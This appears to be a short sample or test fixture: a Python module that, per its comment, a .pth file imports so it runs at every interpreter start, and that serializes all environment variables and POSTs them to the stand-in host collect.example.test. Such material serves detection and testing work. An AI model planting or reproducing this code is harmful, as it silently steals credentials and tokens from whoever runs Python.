# A .pth file imports a module that posts the environment at every start; runs: pth
import json
import os
import urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://collect.example.test/start", body)
